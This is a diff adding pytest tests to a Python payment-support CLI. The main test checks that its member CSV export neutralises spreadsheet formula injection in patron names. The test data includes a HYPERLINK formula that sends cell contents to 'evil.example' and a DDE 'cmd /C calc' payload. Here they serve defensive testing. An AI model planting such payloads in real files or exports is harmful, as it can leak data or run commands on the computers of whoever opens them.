@@ -7,10 +7,16 @@ import io
 import json
 import subprocess
 import sys
+from collections.abc import Iterable, Iterator
+from pathlib import Path
 
+import pytest
+import requests
 from click.testing import CliRunner
 
 from paysupport.cli import main
+from paysupport.sandbox import Sandbox, SandboxOptions
+from paysupport.sandbox.state import state_path, write_state
 
 
 def run(*args: str) -> tuple[int, str, str]:
@@ -92,3 +98,92 @@ def test_the_console_script_starts() -> None:
         [sys.executable, "-m", "paysupport.cli", "--version"], capture_output=True, text=True
     )
     assert done.returncode == 0 and "paysupport" in done.stdout
+
+
+@pytest.fixture
+def recorded_sandbox() -> Iterator[Sandbox]:
+    """A sandbox ``--sandbox`` finds, recorded as ``paysupport sandbox`` in another
+    terminal would record it (in the test's own state directory: see the root conftest)."""
+    with Sandbox(SandboxOptions(sizes={"members": 3})) as sandbox:
+        write_state(sandbox)
+        try:
+            yield sandbox
+        finally:
+            state_path().unlink(missing_ok=True)
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "equals",
+    "+1+cmd|' /C calc'!A0": "plus",
+    "-2+3": "minus",
+    "@SUM(1+1)": "at",
+    "\tTabbed": "tab",
+    "\rReturned": "carriage return",
+}
+
+
+def add_patrons(sandbox: Sandbox, names: Iterable[str]) -> None:
+    """Members, named by themselves, of the campaign ``export-members`` exports by default."""
+    code, out, _ = run("--sandbox", "walk", "patreon", "campaigns", "--format", "json")
+    assert code == 0
+    campaign = json.loads(out)[0]["id"]
+    for name in names:
+        answer = requests.post(
+            f"{sandbox.url('patreon')}/_admin/members",
+            json={"campaign_id": campaign, "full_name": name},
+            timeout=10,
+        )
+        answer.raise_for_status()
+
+
+def export(*args: str) -> list[dict[str, str]]:
+    code, out, err = run("--sandbox", "export-members", "patreon", *args)
+    assert code == 0, err
+    return list(csv.DictReader(io.StringIO(out)))
+
+
+def test_export_members_neutralises_formulas(recorded_sandbox: Sandbox) -> None:
+    # A patron chooses their own name: opened in a spreadsheet, "=HYPERLINK(...)" would
+    # run. Such cells get a leading apostrophe, which spreadsheets read as "text".
+    add_patrons(recorded_sandbox, [*FORMULAS, "Ada Lovelace", "Jean-Luc", "-42"])
+    names = [row["full_name"] for row in export()]
+    for formula, kind in FORMULAS.items():
+        assert "'" + formula in names, kind
+        assert formula not in names, kind
+    assert "Ada Lovelace" in names and "Jean-Luc" in names  # a dash inside is harmless
+    assert "-42" in names  # a plain signed number is read as a number, never run
+
+
+def test_export_members_raw_cells_writes_names_verbatim(recorded_sandbox: Sandbox) -> None:
+    # For a program reading the file, not a spreadsheet: cells exactly as Patreon has them.
+    add_patrons(recorded_sandbox, FORMULAS)
+    names = {row["full_name"] for row in export("--raw-cells")}
+    assert set(FORMULAS) <= names
+
+
+def test_token_store_from_environment_and_config_when_no_option_is_given(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from paysupport import sandbox
+    from paysupport.tokens import JsonFileTokenStore, default_data_dir
+
+    with sandbox.running(providers=["patreon"]) as sb:
+        monkeypatch.setenv("PAYSUPPORT_PATREON_BASE_URL", sb.url("patreon"))
+        for key, value in sb.credentials("patreon").items():
+            monkeypatch.setenv(f"PAYSUPPORT_PATREON_{key.upper()}", value)
+        # PAYSUPPORT_TOKEN_STORE=memory (set for every test): nothing is written
+        code, _, err = run("whoami", "patreon")
+        assert code == 0, err
+        assert not (default_data_dir() / "tokens.json").exists()
+        # the provider's token_store in the config file
+        chosen = tmp_path / "from-config.json"
+        config = tmp_path / "config.ini"
+        config.write_text(f"[patreon]\ntoken_store = json:{chosen}\n")
+        monkeypatch.setenv("PAYSUPPORT_CONFIG", str(config))
+        code, _, err = run("whoami", "patreon")
+        assert code == 0, err
+        assert JsonFileTokenStore(chosen).accounts("patreon") == ["default"]
+        code, _, err = run("logout", "patreon")
+        assert code == 0, err
+        assert JsonFileTokenStore(chosen).accounts("patreon") == []
+    assert not (default_data_dir() / "tokens.json").exists()
